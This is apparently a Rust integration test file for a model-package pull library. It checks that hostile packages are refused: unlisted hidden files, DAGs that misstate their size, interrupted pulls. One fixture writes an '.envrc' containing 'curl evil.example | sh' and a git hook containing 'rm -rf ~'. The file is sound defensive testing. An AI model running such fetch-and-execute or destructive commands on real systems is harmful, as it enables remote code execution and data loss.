//! Hostile packages against the verified pull (issue 17 items 1, 2 and 11): a pull writes
//! exactly the files `smip.json` lists, within its limit, and cleans up after a killed pull.

use std::path::Path;

use iollm_content::manifest::{parse, Manifest, MANIFEST_FILE};
use iollm_content::pull::{pull_package_with, PullOptions};
use iollm_content::{
    add_reader, fetch_file_verified, fetch_verified_with, prepare_package, resolve_path,
    AddOptions, Cid, ContentStore, Error,
};
use serde_json::json;

use crate::common::{claims_terabytes, multipart_request, pattern, raw, Node, Part};

const TEMPLATE: &str = include_str!("../../schema/examples/smip.template.json");

fn write_package(dir: &Path) {
    std::fs::create_dir_all(dir).unwrap();
    std::fs::write(dir.join(MANIFEST_FILE), TEMPLATE).unwrap();
    std::fs::write(dir.join("config.json"), br#"{"model_type":"iollm-gpt"}"#).unwrap();
    std::fs::write(dir.join("model.safetensors"), pattern(300_000, 5)).unwrap();
}

/// What is in `dir` (names), so a test can say nothing was written or left behind.
fn entries(dir: &Path) -> Vec<String> {
    let mut v: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    v.sort();
    v
}

async fn setup() -> (tempfile::TempDir, Node) {
    let tmp = tempfile::tempdir().unwrap();
    let node = Node::start(&tmp.path().join("repo"), "127.0.0.1:0".parse().unwrap()).await;
    std::fs::create_dir(tmp.path().join("out")).unwrap();
    (tmp, node)
}

/// Item 1: extra hidden parts `pkg/.envrc` and `pkg/.git/hooks/post-checkout`, added beside
/// a valid manifest with a hostile client, make the pull refuse the package and write nothing.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn unlisted_hidden_files_refuse_the_package() {
    let (tmp, node) = setup().await;
    let pkg = tmp.path().join("pkg");
    write_package(&pkg);
    let p = prepare_package::<Manifest>(&pkg, &AddOptions::v1()).unwrap();
    let read = |n: &str| std::fs::read(pkg.join(n)).unwrap();
    let (manifest, config, weights) =
        (read(MANIFEST_FILE), read("config.json"), read("model.safetensors"));
    let dir = "application/x-directory";
    let file = "application/octet-stream";
    let parts = [
        Part(Some("pkg"), dir, b""),
        Part(Some("pkg/smip.json"), file, &manifest),
        Part(Some("pkg/config.json"), file, &config),
        Part(Some("pkg/model.safetensors"), file, &weights),
        Part(Some("pkg/.envrc"), file, b"curl evil.example | sh"),
        Part(Some("pkg/.git"), dir, b""),
        Part(Some("pkg/.git/hooks"), dir, b""),
        Part(Some("pkg/.git/hooks/post-checkout"), file, b"#!/bin/sh\nrm -rf ~"),
    ];
    let req = multipart_request(node.addr, "/api/v0/add?cid-version=1&raw-leaves=true", &parts);
    let (status, body) = raw(node.addr, &req).await;
    assert_eq!(status, 200, "{}", String::from_utf8_lossy(&body));
    let last = String::from_utf8(body).unwrap().lines().last().unwrap().to_owned();
    let root: Cid = serde_json::from_str::<serde_json::Value>(&last).unwrap()["Hash"]
        .as_str()
        .unwrap()
        .parse()
        .unwrap();
    assert_ne!(root, p.package_cid, "the hidden files are in the DAG");

    let out = tmp.path().join("out/model");
    let err =
        pull_package_with::<Manifest, _>(&node.client(), &root, &out, &PullOptions::default())
            .await
            .unwrap_err();
    assert!(
        matches!(&err, Error::UnlistedFile { path } if path == ".envrc" || path == ".git"),
        "{err}"
    );
    assert!(entries(&tmp.path().join("out")).is_empty(), "{:?}", entries(&tmp.path().join("out")));

    // The clean package pulls, with exactly the listed files.
    let c = node.client();
    c.put_dir(&pkg, &AddOptions::v1()).await.unwrap();
    let m = pull_package_with::<Manifest, _>(&c, &p.package_cid, &out, &PullOptions::default())
        .await
        .unwrap();
    assert_eq!(m.files.len(), 2);
    assert_eq!(entries(&out), ["config.json", "model.safetensors", "smip.json"]);
    assert_eq!(entries(&tmp.path().join("out")), ["model"]);
    node.stop().await;
}

/// A package whose `smip.json` lists `model.safetensors` as `(cid, size)`, next to a valid
/// `config.json`; added block by block into the node's store. Returns the package CID.
fn package_with_weights(node: &Node, weights: Cid, size: u64) -> Cid {
    use iollm_content::dag::directory_node;
    use iollm_content::pb::PbLink;
    let opts = AddOptions::v1();
    let store = node.repo.blocks();
    let config = br#"{"model_type":"iollm-gpt"}"#;
    let config_cid = add_reader(&config[..], &opts, store).unwrap().cid;
    let mut m: serde_json::Value = serde_json::from_str(TEMPLATE).unwrap();
    m["cid_options"] = json!({"cid_version": 1, "raw_leaves": true, "chunker": "size-262144"});
    m["files"] = json!([
        {"path": "config.json", "size": config.len(), "cid": config_cid.to_string(),
         "sha256": "0".repeat(64)},
        {"path": "model.safetensors", "size": size, "cid": weights.to_string(),
         "sha256": "0".repeat(64)},
    ]);
    let bytes = parse(&serde_json::to_vec(&m).unwrap()).unwrap().to_canonical_json().unwrap();
    let manifest = add_reader(&bytes[..], &opts, store).unwrap();
    let links = [
        PbLink { cid: config_cid, name: "config.json".into(), tsize: config.len() as u64 },
        PbLink { cid: weights, name: "model.safetensors".into(), tsize: size },
        PbLink { cid: manifest.cid, name: MANIFEST_FILE.into(), tsize: manifest.dag_size },
    ];
    let mut sink = store;
    directory_node(&links, &opts, &mut sink, 0).unwrap().cid
}

/// Item 2 (pull): the 4-block DAG that claims 5.5 TB. Listed with its claimed size, the pull
/// is refused by its limit before anything is written; listed as 1 MiB, the size its DAG
/// declares contradicts the manifest, again before anything is written.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_dag_claiming_terabytes_is_refused_before_writing() {
    let (tmp, node) = setup().await;
    let huge = claims_terabytes(node.repo.blocks());
    let claimed = 174u64.pow(3) << 20;
    let c = node.client();
    let out = tmp.path().join("out/model");
    let limit = PullOptions { max_bytes: 10 << 30 };

    let pkg = package_with_weights(&node, huge, claimed);
    let err = pull_package_with::<Manifest, _>(&c, &pkg, &out, &limit).await.unwrap_err();
    assert!(
        matches!(err, Error::PullTooLarge { limit: l, size } if l == 10 << 30 && size > claimed),
        "{err}"
    );
    assert!(entries(&tmp.path().join("out")).is_empty());

    let pkg = package_with_weights(&node, huge, 1 << 20);
    let err = pull_package_with::<Manifest, _>(&c, &pkg, &out, &limit).await.unwrap_err();
    assert!(
        matches!(&err, Error::SizeMismatch { expected, actual, .. } if *expected == 1 << 20 && *actual == claimed),
        "{err}"
    );
    assert!(entries(&tmp.path().join("out")).is_empty());

    // fetch_verified of the bare DAG: refused by the limit from its declared size.
    let err = fetch_verified_with(&c, &huge, &out, 10 << 30).await.unwrap_err();
    assert!(matches!(err, Error::PullTooLarge { .. }), "{err}");
    assert!(entries(&tmp.path().join("out")).is_empty());
    node.stop().await;
}

/// Item 2 (pull, while writing): a file root that declares 2 MiB (and the manifest agrees) but
/// links 174 × 1 MiB: the write stops once the declared size is passed, and nothing is left.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_dag_delivering_more_than_it_declares_is_stopped_while_writing() {
    let (tmp, node) = setup().await;
    let store = node.repo.blocks();
    let one = {
        use sha2::Digest;
        let data = pattern(1 << 20, 9);
        let cid = iollm_content::options::cid_for(
            iollm_content::CidVersion::V1,
            iollm_content::options::RAW,
            sha2::Sha256::digest(&data).into(),
        );
        crate::common::put_raw_block(store, &cid, &data);
        cid
    };
    // Blocksizes say 174 MiB, but filesize (what `inspect` reports) is patched to 2 MiB.
    let liar = lying_file_node(store, one, 174, 2 << 20);
    let pkg = package_with_weights(&node, liar, 2 << 20);
    let out = tmp.path().join("out/model");
    let err = pull_package_with::<Manifest, _>(&node.client(), &pkg, &out, &PullOptions::default())
        .await
        .unwrap_err();
    assert!(
        matches!(&err, Error::SizeMismatch { expected, actual, .. } if *expected == 2 << 20 && *actual > 2 << 20),
        "{err}"
    );
    assert!(entries(&tmp.path().join("out")).is_empty());
    node.stop().await;
}

fn lying_file_node(
    store: &iollm_content::blockstore::FlatBlockstore,
    child: Cid,
    n: usize,
    filesize: u64,
) -> Cid {
    use iollm_content::pb::{encode_node, PbLink, UnixFs, UNIXFS_FILE};
    use sha2::Digest;
    let links = vec![PbLink { cid: child, name: String::new(), tsize: 1 << 20 }; n];
    let unixfs = UnixFs {
        kind: UNIXFS_FILE,
        data: None,
        filesize: Some(filesize),
        blocksizes: vec![1 << 20; n],
    };
    let block = encode_node(&links, Some(&unixfs.encode()));
    let cid = iollm_content::options::cid_for(
        iollm_content::CidVersion::V1,
        iollm_content::options::DAG_PB,
        sha2::Sha256::digest(&block).into(),
    );
    crate::common::put_raw_block(store, &cid, &block);
    cid
}

/// Item 11: a pull killed midway leaves its staging directory (unlocked); the next pull into
/// the same destination recognises it, removes it and succeeds. A pull whose staging lock is
/// held (one running) is refused instead.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_interrupted_pull_is_cleaned_up_by_the_next() {
    let (tmp, node) = setup().await;
    let pkg = tmp.path().join("pkg");
    write_package(&pkg);
    let c = node.client();
    let p =
        iollm_content::publish_package::<Manifest, _>(&c, &pkg, &AddOptions::v1()).await.unwrap();
    let out = tmp.path().join("out/model");
    // What `kill -9` during a pull leaves: the staging directory with a partial file.
    let staging = tmp.path().join("out/.model.iollm-pull");
    std::fs::create_dir_all(staging.join("content")).unwrap();
    std::fs::write(staging.join("lock"), b"").unwrap();
    std::fs::write(staging.join("content/model.safetensors"), vec![0u8; 1 << 20]).unwrap();

    // While its lock is held, the staging directory is another pull's: refused, kept.
    let held = iollm_content::fsutil::lock_exclusive(&staging.join("lock")).unwrap().unwrap();
    let err = pull_package_with::<Manifest, _>(&c, &p.package_cid, &out, &PullOptions::default())
        .await
        .unwrap_err();
    assert!(matches!(&err, Error::PullInProgress { path } if *path == out), "{err}");
    assert!(staging.join("content/model.safetensors").exists());
    drop(held);

    pull_package_with::<Manifest, _>(&c, &p.package_cid, &out, &PullOptions::default())
        .await
        .unwrap();
    assert_eq!(entries(&tmp.path().join("out")), ["model"]);
    assert_eq!(entries(&out), ["config.json", "model.safetensors", "smip.json"]);
    let err = pull_package_with::<Manifest, _>(&c, &p.package_cid, &out, &PullOptions::default())
        .await
        .unwrap_err();
    assert!(matches!(&err, Error::DestinationExists { path } if *path == out), "{err}");
    node.stop().await;
}

/// A CID that must name one file (a job spec, a dataset) is refused, before anything is
/// written, when it names a directory (say, of a million empty files: inodes, not bytes) or a
/// file over the limit; one file within it is fetched.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_file_fetch_refuses_a_directory_and_a_file_over_its_limit() {
    let (tmp, node) = setup().await;
    let pkg = tmp.path().join("pkg");
    write_package(&pkg);
    let c = node.client();
    let dir = c.put_dir(&pkg, &AddOptions::v1()).await.unwrap().cid;
    let file = c.put_file(&pkg.join("model.safetensors"), &AddOptions::v1()).await.unwrap().cid;
    let out = tmp.path().join("out/dataset");
    let err = fetch_file_verified(&c, &dir, &out, 1 << 30).await.unwrap_err();
    assert!(matches!(&err, Error::NotAFile(cid) if *cid == dir.to_string()), "{err}");
    let err = fetch_file_verified(&c, &file, &out, 299_999).await.unwrap_err();
    assert!(matches!(err, Error::PullTooLarge { .. }), "{err}");
    assert!(entries(&tmp.path().join("out")).is_empty());
    assert_eq!(fetch_file_verified(&c, &file, &out, 300_000).await.unwrap(), 300_000);
    assert_eq!(std::fs::read(&out).unwrap(), pattern(300_000, 5));
    node.stop().await;
}

/// A path inside a directory DAG resolves name by name to the CID the directory lists, nested
/// directories included; a missing name, or a path through a file, is refused in one line.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_path_inside_a_directory_resolves_to_its_entry() {
    let (tmp, node) = setup().await;
    let run = tmp.path().join("run");
    std::fs::create_dir_all(run.join("checkpoints")).unwrap();
    std::fs::write(run.join("trace.json"), b"{}").unwrap();
    std::fs::write(run.join("checkpoints/ckpt-000001.bin"), pattern(5_000, 3)).unwrap();
    let c = node.client();
    let dir = c.put_dir(&run, &AddOptions::v1()).await.unwrap().cid;
    let opts = AddOptions::v1();
    let ckpt = c.put_file(&run.join("checkpoints/ckpt-000001.bin"), &opts).await.unwrap().cid;
    let found = resolve_path(&c, &dir, "checkpoints/ckpt-000001.bin").await.unwrap();
    assert_eq!(found, ckpt);
    let out = tmp.path().join("ckpt");
    assert_eq!(fetch_file_verified(&c, &found, &out, 5_000).await.unwrap(), 5_000);
    for missing in ["checkpoints/ckpt-000002.bin", "trace.json/x", "nothing", ""] {
        let err = resolve_path(&c, &dir, missing).await.unwrap_err();
        assert!(matches!(err, Error::NotInDirectory { .. }), "{missing}: {err}");
        assert!(!err.to_string().contains('\n'));
    }
    node.stop().await;
}
